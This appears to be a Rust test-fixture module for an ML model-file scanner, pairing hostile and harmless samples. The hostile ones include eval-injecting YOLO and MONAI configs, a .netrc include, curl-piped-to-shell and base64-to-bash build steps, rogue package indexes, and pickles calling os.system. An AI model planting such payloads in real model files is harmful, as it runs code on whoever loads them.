//! Configuration that loaders of frameworks import from, evaluate or install by, and containers that look like two
//! formats and are one: each attack with a file of the same shape that does no harm.

use super::Sample;
use super::archives::{Member, member, tar, tar_entry, torch, torch_pickle, zip};
use super::formats::{attribute, hdf5, tflite};
use super::frameworks::{field, keras, keras_model, node, onnx, saved_model};
use super::pickles::{Pickle, base64, gzip};

/// `technique`, name, hostile, harmless.
type Pair = (&'static str, &'static str, &'static str, &'static str);

const CONFIGURATION: &[Pair] = &[
    // YOLO evaluates names of layers, texts among their arguments and the activation.
    (
        "yolo",
        "module/yolov5s.yaml",
        "nc: 80\nbackbone:\n  - [-1, 1, '__import__(\"os\").system(\"echo x\")', [64]]\nhead:\n  - [-1, 1, Conv, [64]]\n",
        "nc: 80\ndepth_multiple: 0.33\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 3, C3, [128]]\nhead:\n  - [[17, 20, 23], 1, Detect, [nc, anchors]]\n",
    ),
    (
        "yolo",
        "argument/yolov5s.yaml",
        "nc: 80\nbackbone:\n  - [-1, 1, Conv, ['exec(\"import os\")']]\nhead:\n  - [-1, 1, Conv, [64]]\n",
        "nc: 80\nbackbone:\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n  - [[-1, 6], 1, Concat, [1]]\nhead:\n  - [-1, 1, Classify, [nc]]\n",
    ),
    (
        "yolo",
        "activation/yolov8.yaml",
        "nc: 80\nactivation: \"(lambda: print('x'))()\"\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n",
        "nc: 80\nscales:\n  n: [0.33, 0.25, 1024]\nactivation: nn.LeakyReLU(0.1)\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n",
    ),
    (
        "yolo",
        "function/custom.yaml",
        "nc: 80\nbackbone:\n  - [-1, 1, os.system, ['echo x']]\nhead:\n  - [-1, 1, Detect, [nc]]\n",
        "nc: 80\nactivation: torch.nn.SiLU()\nbackbone:\n  - [-1, 1, nn.Conv2d, [3, 64, 3]]\nhead:\n  - [-1, 1, Detect, [nc]]\n",
    ),
    (
        "yolo",
        "builtin/custom.yaml",
        "nc: 80\nbackbone:\n  - [-1, 1, exec, ['import os']]\n",
        "nc: 80\nbackbone:\n  - [-1, 1, HGStem, [32, 48]]\n",
    ),
    // SpeechBrain's tags.
    (
        "speechbrain",
        "apply/hyperparams.yaml",
        "x: !apply:os.system [echo x]\n",
        "seed: 1986\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nnorm: !name:torch.nn.BatchNorm1d\nfeatures: !new:speechbrain.lobes.features.Fbank\n    n_mels: 80\n",
    ),
    (
        "speechbrain",
        "new/hyperparams.yaml",
        "model: !new:subprocess.Popen\n    args: [echo, x]\n",
        "seed: 1\n__set_seed: !applyref:random.seed [1]\nmodel: !new:torch.nn.ModuleList\n    - [!ref <seed>]\n",
    ),
    (
        "speechbrain",
        "include/hyperparams.yaml",
        "x: !include:../../../home/user/.netrc\n",
        "x: !include:model.yaml\nsave: !ref <folder>/save\nfolder: !PLACEHOLDER\n",
    ),
    // Classes and functions by name.
    (
        "named-classes",
        "hub/model_index.json",
        r#"{"_class_name": "StableDiffusionPipeline", "unet": ["torch.hub", "load"]}"#,
        r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "text_encoder": ["transformers", "CLIPTextModel"], "x": [null, null]}"#,
    ),
    (
        "named-classes",
        "outside/model_index.json",
        r#"{"_class_name": "StableDiffusionPipeline", "unet": ["../../shared/unet", "Net"]}"#,
        r#"{"_class_name": "KolorsPipeline", "text_encoder": ["kolors.models.modeling_chatglm", "ChatGLMModel"], "vae": ["diffusers", "AutoencoderKL"]}"#,
    ),
    (
        "named-classes",
        "dense/config.json",
        r#"{"in_features": 1, "out_features": 1, "bias": true, "activation_function": "os.system"}"#,
        r#"{"in_features": 1, "out_features": 1, "bias": true, "activation_function": "torch.nn.modules.activation.Tanh"}"#,
    ),
    (
        "named-classes",
        "cross/config.json",
        r#"{"model_type": "bert", "sbert_ce_default_activation_function": "subprocess.call"}"#,
        r#"{"model_type": "bert", "activation_function": "gelu_new", "sbert_ce_default_activation_function": "torch.nn.modules.linear.Identity"}"#,
    ),
    (
        "named-classes",
        "router/router_config.json",
        r#"{"types": {"query_0": "runpy.run_path"}, "structure": {}}"#,
        r#"{"types": {"query_0": "sentence_transformers.models.Dense"}, "structure": {}}"#,
    ),
    (
        "named-classes",
        "through/conf.yaml",
        "_target_: nemo.utils.os.system\n_args_: [echo x]\n",
        "_target_: nemo.utils.exp_manager.ExpManagerConfig\n",
    ),
    (
        "named-classes",
        "through-method/conf.yaml",
        "_target_: hydra.utils.get_method\npath: torch.serialization.os.popen\n",
        "_target_: hydra.utils.get_method\npath: torch.multiprocessing.cpu_count\n",
    ),
    (
        "named-classes",
        "spark/metadata.json",
        r#"{"class": "subprocess.Popen", "language": "Python", "paramMap": {}}"#,
        r#"{"class": "org.apache.spark.ml.PipelineModel", "paramMap": {}}"#,
    ),
    // Expressions that loaders evaluate.
    (
        "evaluated-values",
        "monai/inference.json",
        r#"{"imports": ["$import os"], "x": "$__import__('os').system('echo x')", "network": {"_target_": "UNet"}}"#,
        r#"{"imports": ["$import glob", "$import os"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "data": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))", "ckpt": "$os.path.join(@bundle_root, 'models/model.pt')", "run": ["$@evaluator.run()"]}"#,
    ),
    (
        "evaluated-values",
        "monai-named/inference.json",
        r#"{"imports": ["$import os"], "x": "$os.system('echo ' + @network_def#name)"}"#,
        r#"{"imports": ["$import os"], "x": "$os.makedirs(@output_dir, exist_ok=True)"}"#,
    ),
    (
        "evaluated-values",
        "lr/config.json",
        r#"{"optimizer": {"lr": "__import__('os').system('echo x')"}}"#,
        r#"{"optimizer": {"lr": "1e-4 * (1 + 0.5)"}, "note": "open('the box') and call os.system", "logger": "__import__('logging').getLogger('x')"}"#,
    ),
    (
        "evaluated-values",
        "imported/monai.yaml",
        "run: \"$subprocess.run(['echo', 'x'])\"\n",
        "run: \"$os.path.join('eval', 'x')\"\n",
    ),
    (
        "evaluated-values",
        "train/train.yaml",
        "scheduler: \"eval(\\\"__import__('os').system('x')\\\")\"\n",
        "scheduler: \"LambdaLR(lambda step: 0.5 ** step)\"\nprompt: \"Say (politely) what the system does\"\n",
    ),
    // Code that is brought along.
    (
        "user-folder",
        "fairseq/config.yaml",
        "common:\n  user_dir: /tmp/plugins/evil\n",
        "common:\n  user_dir: examples/wav2vec\n  seed: 1\n",
    ),
    (
        "native-library",
        "genai/genai_config.json",
        r#"{"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "/tmp/libx.so"}}]}}}}"#,
        r#"{"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "QnnHtp.dll"}}]}}}}"#,
    ),
    (
        "native-library",
        "mlc/mlc-chat-config.json",
        r#"{"model_lib": "../../shared/lib/x.dylib"}"#,
        r#"{"model_lib": "/usr/lib/libmodel.so", "model_type": "llama"}"#,
    ),
    (
        "server-files",
        "library/config.pbtxt",
        "name: \"m\"\nmodel_operations { op_library_filename: \"/tmp/x.so\" }\n",
        "name: \"m\"\nbackend: \"tensorflow\"\nmodel_operations { op_library_filename: \"custom.so\" }\n",
    ),
    (
        "server-files",
        "environment/config.pbtxt",
        "backend: \"python\"\nparameters: { key: \"EXECUTION_ENV_PATH\" value: { string_value: \"../../../tmp/env.tar.gz\" } }\n",
        "backend: \"python\"\nparameters: { key: \"EXECUTION_ENV_PATH\" value: { string_value: \"$$TRITON_MODEL_DIRECTORY/env.tar.gz\" } }\n",
    ),
    (
        "server-files",
        "file/config.pbtxt",
        "name: \"m\"\ndefault_model_filename: \"../../shared/model.py\"\n",
        "name: \"m\"\ndefault_model_filename: \"model.onnx\"\ninput [ { name: \"/x/../y\" data_type: TYPE_FP32 } ]\n",
    ),
    (
        "server-files",
        "coreml/Manifest.json",
        r#"{"itemInfoEntries": {"A": {"path": "../../../home/user/x"}}, "rootModelIdentifier": "A"}"#,
        r#"{"itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "A"}"#,
    ),
    // Packages.
    (
        "packages",
        "direct/requirements.txt",
        "torch\nextra @ http://packages.example.org/extra-1.0.tar.gz\n",
        "torch==2.4.0\ngit+https://github.com/huggingface/transformers@v4.40.0\n",
    ),
    (
        "packages",
        "git/requirements.txt",
        "git+http://git.example.org/a/b.git\n",
        "# from http://example.org\nnumpy>=1.26,<3  # see http://example.org\n",
    ),
    (
        "packages",
        "number/requirements-gpu.txt",
        "--find-links https://203.0.113.7/wheels\ntorch\n",
        "-i http://localhost:3141/root/pypi\ntorch\n",
    ),
    (
        "packages",
        "wheel/requirements.txt",
        "https://files.example.org/torch-2.4.0-cp311-cp311-linux_x86_64.whl\n",
        "https://download.pytorch.org/whl/cpu/torch-2.4.0-cp311-cp311-linux_x86_64.whl\n",
    ),
    (
        "packages",
        "channel/conda.yaml",
        "channels:\n  - http://conda.example.org/main\ndependencies:\n  - python=3.11\n",
        "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - mlflow==2.9\n    - --extra-index-url https://download.pytorch.org/whl/cpu\n",
    ),
    (
        "packages",
        "pip/conda.yaml",
        "dependencies:\n  - pip:\n    - --trusted-host packages.example.org\n    - torch\n",
        "name: mlflow-env\ndependencies:\n  - pip<=24\n  - pip:\n    - scikit-learn==1.4\n",
    ),
    (
        "packages",
        "piped/cog.yaml",
        "build:\n  run:\n    - curl http://example.org/x.sh | sh\npredict: predict.py:Predictor\n",
        "build:\n  gpu: true\n  python_packages:\n    - torch==2.0\n  run:\n    - apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\npredict: predict.py:Predictor\n",
    ),
    (
        "packages",
        "decoded/cog.yaml",
        "build:\n  run:\n    - command: echo ZWNobyB4 | base64 -d | bash\n",
        "build:\n  run:\n    - command: wget https://weights.example.org/model.tar.gz -O /src/model.tar.gz\n",
    ),
    (
        "packages",
        "index/bentofile.yaml",
        "service: service:svc\npython:\n  index_url: http://packages.example.org/simple\n  packages: [torch]\n",
        "service: service:svc\npython:\n  packages: [torch, scikit-learn]\n",
    ),
    (
        "packages",
        "spacy/meta.json",
        r#"{"lang": "en", "requirements": ["extra @ http://packages.example.org/extra.whl"]}"#,
        r#"{"lang": "en", "url": "http://example.org", "requirements": ["spacy-transformers>=1.3.4,<1.4.0"]}"#,
    ),
    (
        "packages",
        "index/pyproject.toml",
        "[tool.uv]\nindex-url = \"http://packages.example.org/simple\"\n",
        "[project]\nname = \"m\"\n[project.urls]\nHomepage = \"http://example.org\"\n",
    ),
    // Text whose first line is for a shell is what the other lines say.
    (
        "first-lines",
        "script/modeling_net.py",
        "#!/usr/bin/env python3\nimport os\nos.system('echo x')\n",
        "#!/usr/bin/env python3\nimport os\nname = os.path.join('a', 'b')\n",
    ),
    (
        "first-lines",
        "script/config.yaml",
        "#!/usr/bin/env hydra\n_target_: os.system\n",
        "#!/usr/bin/env hydra\n_target_: torch.nn.Linear\n",
    ),
    (
        "first-lines",
        "hub/hubconf.py",
        "dependencies = ['torch']\nimport os\nos.system('echo x')\n",
        "dependencies = ['torch']\n\n\ndef net(pretrained=False):\n    return None\n",
    ),
    (
        "server-files",
        "function/model.pmml",
        "<?xml version=\"1.0\"?><PMML version=\"4.4\"><TransformationDictionary><DerivedField><Apply function=\"java.lang.Runtime\"/></DerivedField></TransformationDictionary></PMML>",
        "<?xml version=\"1.0\"?><PMML version=\"4.4\"><TransformationDictionary><DerivedField><Apply function=\"uppercase\"/></DerivedField></TransformationDictionary></PMML>",
    ),
    (
        "tensorflow-places",
        "print/saved_model.pbtxt",
        "node { name: \"p\" op: \"PrintV2\" attr { key: \"output_stream\" value { s: \"file:///tmp/x\" } } }\n",
        "node { name: \"p\" op: \"PrintV2\" attr { key: \"output_stream\" value { s: \"stderr\" } } }\n",
    ),
];

pub(crate) fn samples() -> Vec<Sample> {
    let mut out = Vec::new();
    for (technique, name, hostile, plain) in CONFIGURATION {
        let file = |text: &str| text.as_bytes().to_vec();
        out.push(Sample::attack(
            technique,
            format!("hostile-{name}"),
            file(hostile),
        ));
        out.push(Sample::twin(
            technique,
            format!("plain-{name}"),
            file(plain),
        ));
    }
    in_archives(&mut out);
    layers(&mut out);
    graphs(&mut out);
    compiled(&mut out);
    containers(&mut out);
    objects(&mut out);
    out
}

/// The same files below a folder of an archive.
fn in_archives(out: &mut Vec<Sample>) {
    let packed = |name: &str, content: &str| {
        gzip(&tar(&[
            tar_entry(
                "model/weights.safetensors",
                b'0',
                "",
                b"\x02\0\0\0\0\0\0\0{}",
            ),
            tar_entry(&format!("model/{name}"), b'0', "", content.as_bytes()),
        ]))
    };
    for (name, hostile, plain) in [
        (
            "requirements.txt",
            "--extra-index-url http://packages.example.org/simple\n",
            "torch\n",
        ),
        (
            "MLmodel",
            "flavors:\n  python_function:\n    loader_module: os\n",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n",
        ),
        (
            "code/handler.py",
            "#!/usr/bin/python\nimport subprocess\nsubprocess.call(['echo'])\n",
            "#!/usr/bin/python\nimport json\nNAMES = json.loads('[]')\n",
        ),
    ] {
        out.push(Sample::attack(
            "in-archives",
            format!("{}.tar.gz", name.replace('/', "-")),
            packed(name, hostile),
        ));
        out.push(Sample::twin(
            "in-archives",
            format!("plain-{}.tar.gz", name.replace('/', "-")),
            packed(name, plain),
        ));
    }
    let wheel = |code: &str| {
        zip(&[
            member("net/__init__.py", code.as_bytes().to_vec()),
            member("net-1.0.dist-info/METADATA", b"Name: net\n".to_vec()),
        ])
    };
    out.push(Sample::attack(
        "in-archives",
        "net-1.0-py3-none-any.whl",
        wheel("import os\nos.system('echo x')\n"),
    ));
    out.push(Sample::twin(
        "in-archives",
        "plain-1.0-py3-none-any.whl",
        wheel("import os\nROOT = os.path.dirname(__file__)\n"),
    ));
}

/// Layers of Keras that are operations and functions of TensorFlow.
fn layers(out: &mut Vec<Sample>) {
    let operation = |node: &str| {
        keras(&keras_model(&format!(
            r#"{{"class_name": "TensorFlowOpLayer", "config": {{"name": "x", "node_def": {node}, "constants": {{}}}}}}"#
        )))
    };
    let function = |name: &str, more: &str| {
        keras(&keras_model(&format!(
            r#"{{"class_name": "TFOpLambda", "config": {{"name": "tf.{name}", "function": "{name}"}}, "inbound_nodes": [{more}]}}"#
        )))
    };
    let bytes = base64(&node("w", "MatchingFiles"));
    let nodes = [
        r#"{"name": "w", "op": "WriteFile", "input": ["a", "b"]}"#.to_owned(),
        r#""{\"name\": \"w\", \"op\": \"EagerPyFunc\", \"input\": []}""#.to_owned(),
        r#""name: \"w\" op: \"ReadFile\" input: \"a\"""#.to_owned(),
        format!("\"{bytes}\""),
        r#"{"name": "w", "op": "PrintV2", "attr": {"output_stream": {"s": "ZmlsZTovLy90bXAveA=="}}}"#
            .to_owned(),
    ];
    for (at, node) in nodes.iter().enumerate() {
        out.push(Sample::attack(
            "keras-operations",
            format!("node-{at}.keras"),
            operation(node),
        ));
    }
    for (at, name) in [
        "io.write_file",
        "io.read_file",
        "raw_ops.SaveV2",
        "numpy_function",
        "py_function",
        "io.gfile.remove",
        "saved_model.load",
        "load_op_library",
    ]
    .iter()
    .enumerate()
    {
        out.push(Sample::attack(
            "keras-operations",
            format!("function-{at}.keras"),
            function(name, ""),
        ));
    }
    out.push(Sample::attack(
        "keras-operations",
        "print.keras",
        function(
            "print",
            r#"["x", 0, 0, {"output_stream": "file:///tmp/x"}]"#,
        ),
    ));
    for (at, twin) in [
        operation(r#"{"name": "w", "op": "AddV2", "input": ["a", "b"]}"#),
        operation(r#""{\"name\": \"w\", \"op\": \"Reshape\"}""#),
        operation(
            r#"{"name": "w", "op": "PrintV2", "attr": {"output_stream": {"s": "c3RkZXJy"}}}"#,
        ),
        function("math.add", ""),
        function("image.resize", ""),
        function("strings.split", ""),
        function("io.decode_jpeg", ""),
        function("print", r#"["x", 0, 0, {"output_stream": "stderr"}]"#),
    ]
    .into_iter()
    .enumerate()
    {
        out.push(Sample::twin(
            "keras-operations",
            format!("plain-operation-{at}.keras"),
            twin,
        ));
    }
}

/// Parts of a model that are compiled for a chip and stand in a file of their own.
fn compiled(out: &mut Vec<Sample>) {
    let model = |path: &str| {
        let context = [field(1, b"ep_cache_context"), field(4, path.as_bytes())].concat();
        let node = [
            field(4, b"EPContext"),
            field(5, &context),
            field(7, b"com.microsoft"),
        ]
        .concat();
        onnx(&[field(1, &node), field(2, b"g")].concat())
    };
    out.push(Sample::attack(
        "server-files",
        "compiled.onnx",
        model("../../tmp/context.bin"),
    ));
    out.push(Sample::twin(
        "server-files",
        "compiled-plain.onnx",
        model("context.bin"),
    ));
}

/// Paths that are handed to the savers of a graph, and constants that stand for assets.
fn graphs(out: &mut Vec<Sample>) {
    let text = |value: &str| {
        let tensor = [b"\x08\x07".to_vec(), field(8, value.as_bytes())].concat();
        field(
            5,
            &[field(1, b"value"), field(2, &field(8, &tensor))].concat(),
        )
    };
    let constant = |name: &str, value: &str| field(1, &[node(name, "Const"), text(value)].concat());
    let call = |function: &str, path: &str| {
        field(
            1,
            &[
                node("c", "StatefulPartitionedCall"),
                field(3, path.as_bytes()),
                field(
                    5,
                    &[
                        field(1, b"f"),
                        field(2, &field(10, &field(1, function.as_bytes()))),
                    ]
                    .concat(),
                ),
            ]
            .concat(),
        )
    };
    let placeholder = field(1, &node("saver_filename", "Placeholder"));
    for (at, (function, path)) in [
        ("__inference__traced_save_7", "/tmp/x"),
        ("__inference__traced_restore_7", "/home/user/x"),
    ]
    .iter()
    .enumerate()
    {
        out.push(Sample::attack(
            "tensorflow-places",
            format!("saver-{at}/saved_model.pb"),
            saved_model(&[constant("p", path), call(function, "p")].concat()),
        ));
        out.push(Sample::twin(
            "tensorflow-places",
            format!("saver-plain-{at}/saved_model.pb"),
            saved_model(
                &[
                    placeholder.clone(),
                    constant("p", "variables"),
                    call(function, "saver_filename"),
                ]
                .concat(),
            ),
        ));
    }
    // A vocabulary of the model, and one of the machine.
    let with_asset = |asset: &[u8]| {
        let table = [
            node("t", "InitializeTableFromTextFileV2"),
            field(3, b"table"),
            field(3, b"vocabulary"),
        ]
        .concat();
        let graph = [
            constant("vocabulary", "/home/author/vocab.txt"),
            field(1, &table),
        ]
        .concat();
        [
            b"\x08\x01".to_vec(),
            field(2, &[field(2, &graph), asset.to_vec()].concat()),
        ]
        .concat()
    };
    out.push(Sample::attack(
        "tensorflow-places",
        "table/saved_model.pb",
        with_asset(b""),
    ));
    let asset = field(
        6,
        &[field(1, &field(1, b"vocabulary:0")), field(2, b"vocab.txt")].concat(),
    );
    out.push(Sample::twin(
        "tensorflow-places",
        "table-asset/saved_model.pb",
        with_asset(&asset),
    ));
}

fn with_offset(archive: &[u8], before: &[u8]) -> Vec<u8> {
    [before, archive].concat()
}

/// Files that are one format inside of another, and files that are two.
fn containers(out: &mut Vec<Sample>) {
    let weights = zip(&torch(torch_pickle()));
    let hostile: Vec<Member> = torch(
        Pickle::new(2)
            .raw(b"cos\nsystem\n(X\x06\0\0\0echo xtR")
            .stop(),
    );
    let configuration = tar_entry(
        "model_config.yaml",
        b'0',
        "",
        b"target: nemo.collections.asr.models.EncDecCTCModel\n",
    );
    let with = |weights: &[u8]| {
        tar(&[
            configuration.clone(),
            tar_entry("model_weights.ckpt", b'0', "", weights),
        ])
    };
    out.push(Sample::twin("containers", "torch.nemo", with(&weights)));
    out.push(Sample::twin(
        "containers",
        "torch-only.tar",
        tar(&[tar_entry("weights.pt", b'0', "", &weights)]),
    ));
    out.push(Sample::attack(
        "containers",
        "hostile-torch.nemo",
        with(&zip(&hostile)),
    ));
    // Behind a tar archive, where it is no member.
    out.push(Sample::attack(
        "containers",
        "behind.nemo",
        [with(&weights), zip(&hostile)].concat(),
    ));
    out.push(Sample::attack(
        "containers",
        "plain-behind.nemo",
        [with(b"weights"), weights.clone()].concat(),
    ));
    let labels = zip(&[member("labels.txt", b"cat\ndog\n".to_vec())]);
    out.push(Sample::twin(
        "containers",
        "labels.tflite",
        with_offset(&labels, &tflite("TFLite_Detection_PostProcess")),
    ));
    out.push(Sample::attack(
        "containers",
        "torch-behind.tflite",
        with_offset(&weights, &tflite("TFLite_Detection_PostProcess")),
    ));
    out.push(Sample::attack(
        "containers",
        "pickle-behind.tflite",
        with_offset(
            &zip(&[member("labels.txt", hostile[0].bytes.clone())]),
            &tflite("TFLite_Detection_PostProcess"),
        ),
    ));
    let block = |content: &[u8]| {
        let mut block = content.to_vec();
        block.resize(512, 0);
        [block, hdf5(&[attribute("backend", "tensorflow")])].concat()
    };
    let mut matlab =
        b"MATLAB 7.3 MAT-file, Platform: GLNXA64, Created on: Mon Jan  1 00:00:00 2024".to_vec();
    matlab.resize(116, b' ');
    matlab.extend([0; 8]);
    matlab.extend(b"\0\x02IM");
    for (name, content) in [
        ("zeros.h5", &b""[..]),
        ("notes.h5", b"Weights of the second run.\n"),
        ("matlab.mat", &matlab),
    ] {
        out.push(Sample::twin("containers", name, block(content)));
    }
    for (name, content) in [
        ("script.h5", &b"#!/bin/sh\necho x\n"[..]),
        ("code.h5", b"import os\nos.system('echo x')\n"),
        ("binary.h5", b"\x01\x02\x03\x04 payload"),
        ("program.h5", b"\x7fELF\x02\x01\x01"),
    ] {
        out.push(Sample::attack("containers", name, block(content)));
    }
}

/// Objects of the standard library and of estimators, as pickle writes them.
fn objects(out: &mut Vec<Sample>) {
    for (name, pickle) in [
        ("load", &b"\x80\x02cast\nLoad\n)R."[..]),
        ("old-load", b"\x80\x02c_ast\nLoad\n)R."),
        (
            "name",
            b"\x80\x02cast\nName\n)R}(X\x02\0\0\0idX\x01\0\0\0xX\x03\0\0\0ctxcast\nStore\n)Rub.",
        ),
        (
            "header",
            b"\x80\x02cemail.headerregistry\n_reconstruct_header\n(X\x06\0\0\0_To_Hdcemail.headerregistry\nUniqueAddressHeader\n\x85X\x05\0\0\0a@b.ctR.",
        ),
        (
            "terminal",
            b"\x80\x02cemail._header_value_parser\nValueTerminal\n(X\x01\0\0\0aX\x05\0\0\0atextt\x81.",
        ),
        (
            "policy",
            b"\x80\x02cemail.policy\nEmailPolicy\n)\x81}X\x04\0\0\0utf8\x89sb.",
        ),
        (
            "cache",
            b"\x80\x02chdbscan.hdbscan_\nHDBSCAN\n)\x81}X\x06\0\0\0memorycjoblib.memory\nMemory\n)\x81}(X\x08\0\0\0locationNX\x0d\0\0\0store_backendNubsb.",
        ),
        (
            "import-in-words",
            b"\x80\x02cargparse\nNamespace\n)\x81}X\x06\0\0\0loggerX\x15\0\0\0__import__('logging')sb.",
        ),
        (
            "user-folder",
            b"\x80\x02cargparse\nNamespace\n)\x81}X\x08\0\0\0user_dirX\x10\0\0\0examples/wav2vecsb.",
        ),
    ] {
        out.push(Sample::twin(
            "objects",
            format!("object-{name}.pkl"),
            pickle.to_vec(),
        ));
    }
    for (name, pickle) in [
        (
            "cache-called",
            &b"\x80\x02cjoblib.memory\nMemory\n(X\x06\0\0\0/tmp/xtR."[..],
        ),
        (
            "import-in-words",
            b"\x80\x02cargparse\nNamespace\n)\x81}X\x06\0\0\0loggerX\x10\0\0\0__import__('os')sb.",
        ),
        (
            "user-folder",
            b"\x80\x02}X\x06\0\0\0common}X\x08\0\0\0user_dirX\x0b\0\0\0/tmp/pluginss.",
        ),
        (
            "user-folder-state",
            b"\x80\x02cargparse\nNamespace\n)\x81}X\x08\0\0\0user_dirX\x0c\0\0\0\\\\host\\sharesb.",
        ),
        ("parse", b"\x80\x02cast\nparse\n(X\x01\0\0\0xtR."),
    ] {
        out.push(Sample::attack(
            "objects",
            format!("object-hostile-{name}.pkl"),
            pickle.to_vec(),
        ));
    }
}
